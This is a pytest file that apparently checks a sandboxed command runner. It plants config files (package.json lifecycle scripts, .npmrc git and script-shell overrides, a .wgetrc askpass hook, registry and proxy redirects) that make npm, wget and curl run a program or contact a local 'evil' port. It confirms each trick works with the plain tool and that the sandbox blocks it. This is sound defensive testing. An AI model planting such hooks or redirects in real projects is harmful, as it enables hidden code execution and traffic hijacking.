"""Real tools other than git, in the strict sandbox, among files that would make them run a program or go elsewhere.

Each way is first shown to work with the plain tool; then the same line goes through janee_exec with the tool's profile.
"""

from __future__ import annotations

import json
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.runner.rig import McpClient, Rig

MARK = "ran"
RUN = ("run.sh", "#!/bin/sh\ntouch ran\nexit 1\n")


def package(**more: object) -> tuple[str, str]:
    return "package.json", json.dumps({"name": "w", "version": "1.0.0"} | more)


@dataclass(frozen=True)
class Way:
    """files: in the workspace. home: in the home directory of whoever starts the tool."""

    name: str
    argv: tuple[str, ...]
    files: tuple[tuple[str, str], ...] = ()
    home: tuple[tuple[str, str], ...] = ()


PLAIN_URL = "http://127.0.0.1:{service}/x"
PROGRAMS = (
    Way("npm: a script", ("npm", "install"), (package(scripts={"preinstall": "touch ran"}),)),
    Way(
        "npm: scripts switched on again",
        ("npm", "install"),
        (package(scripts={"postinstall": "touch ran"}), (".npmrc", "ignore-scripts=false\n")),
    ),
    Way(
        "npm: its git",
        ("npm", "install", "--fetch-retries=0"),
        (package(dependencies={"x": "git+https://h.test/x.git"}), (".npmrc", "git=./run.sh\n"), RUN),
    ),
    Way(
        "npm: its shell",
        ("npm", "install"),
        (package(scripts={"preinstall": "true"}), (".npmrc", "script-shell=./run.sh\nignore-scripts=false\n"), RUN),
    ),
    Way("npm: before packing", ("npm", "pack"), (package(scripts={"prepack": "touch ran"}),)),
    Way("npm: before a version", ("npm", "version", "patch"), (package(scripts={"preversion": "touch ran"}),)),
    Way("npm: before publishing", ("npm", "publish", "--dry-run"), (package(scripts={"prepublishOnly": "touch ran"}),)),
    Way(
        "wget: who asks for the password",
        ("wget", "-q", "--tries=1", PLAIN_URL),
        (RUN,),
        ((".wgetrc", "use_askpass=./run.sh\n"),),
    ),
)
PLACES = (
    Way("npm: the registry", ("npm", "view", "x"), ((".npmrc", "registry=http://127.0.0.1:{evil}/\nfetch-retries=0\n"),)),
    Way("npm: a scope", ("npm", "view", "@s/x"), ((".npmrc", "@s:registry=http://127.0.0.1:{evil}/\nfetch-retries=0\n"),)),
    Way("npm: a proxy", ("npm", "view", "x"), ((".npmrc", "proxy=http://127.0.0.1:{evil}/\nnoproxy=\nfetch-retries=0\n"),)),
    Way("curl: a proxy", ("curl", "-sS", PLAIN_URL), (), ((".curlrc", "proxy = http://127.0.0.1:{evil}\n"),)),
    Way(
        "wget: a proxy",
        ("wget", "-qO-", "--tries=1", PLAIN_URL),
        (),
        ((".wgetrc", "use_proxy=on\nhttp_proxy=http://127.0.0.1:{evil}\n"),),
    ),
)


@dataclass(frozen=True)
class Place:
    """A workspace with a way's files in it, and the ports that `{service}` and `{evil}` stand for."""

    path: Path
    home: Path
    ports: dict[str, int]

    def make(self, way: Way) -> tuple[str, ...]:
        self.path.mkdir()
        for directory, files in ((self.path, way.files), (self.home, way.home)):
            directory.mkdir(exist_ok=True)
            for name, text in files:
                (directory / name).write_text(self._filled(text))
                (directory / name).chmod(0o755)
        return tuple(map(self._filled, way.argv))

    def clear(self, way: Way) -> None:
        for name, _ in way.home:
            (self.home / name).unlink()

    def plain(self, argv: tuple[str, ...]) -> None:
        environment = {"PATH": "/usr/bin:/bin", "HOME": str(self.home)}
        nothing = subprocess.DEVNULL
        subprocess.run(argv, cwd=self.path, env=environment, stdin=nothing, capture_output=True, timeout=120)

    def _filled(self, text: str) -> str:
        for name, port in self.ports.items():
            text = text.replace(f"{{{name}}}", str(port))
        return text


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[bytes]]]:
    """A port that nobody but an attack has a reason to connect to, and what arrived there."""
    arrived: list[bytes] = []
    with closing(socket.create_server(("127.0.0.1", 0))) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(5)
                    arrived.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.1 404 Not Found\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1], arrived
        server.shutdown(socket.SHUT_RDWR)
        thread.join(10)


def service_port(rig: Rig) -> int:
    found = re.search(r"baseUrl: http://127\.0\.0\.1:([0-9]+)", (rig.root / "janee" / "config.yaml").read_text())
    assert found is not None
    return int(found[1])


def needed(way: Way) -> None:
    if shutil.which(way.argv[0], path="/usr/bin:/bin") is None:
        pytest.skip(f"{way.argv[0]} is not in /usr/bin or /bin")


@pytest.mark.parametrize("way", PROGRAMS, ids=lambda way: way.name)
def test_a_file_runs_nothing(rig: Rig, client: McpClient, tmp_path: Path, way: Way) -> None:
    needed(way)
    ports = {"service": service_port(rig)}
    plain = Place(tmp_path / "plain", tmp_path / "home", ports)
    plain.plain(plain.make(way))
    assert list(plain.path.rglob(MARK)), "the attack does not work with the plain tool: it shows nothing"
    confined = Place(tmp_path / "work", rig.root / "home", ports)
    argv = confined.make(way)
    try:
        result = client.exec(*argv, capability="tools", cwd=str(confined.path))
    finally:
        confined.clear(way)
    assert "exitCode" in result, "the line is denied, so that it shows nothing"
    assert not list(confined.path.rglob(MARK))


@pytest.mark.parametrize("way", PLACES, ids=lambda way: way.name)
def test_a_file_leads_nowhere_else(
    rig: Rig, client: McpClient, tmp_path: Path, elsewhere: tuple[int, list[bytes]], way: Way
) -> None:
    needed(way)
    evil, arrived = elsewhere
    ports = {"service": service_port(rig), "evil": evil}
    confined = Place(tmp_path / "work", rig.root / "home", ports)
    argv = confined.make(way)
    try:
        result = client.exec(*argv, capability="tools", cwd=str(confined.path))
    finally:
        confined.clear(way)
    assert "exitCode" in result, "the line is denied, so that it shows nothing"
    assert arrived == []
    plain = Place(tmp_path / "plain", tmp_path / "home", ports)
    plain.plain(plain.make(way))
    assert arrived, "the attack does not work with the plain tool: it shows nothing"
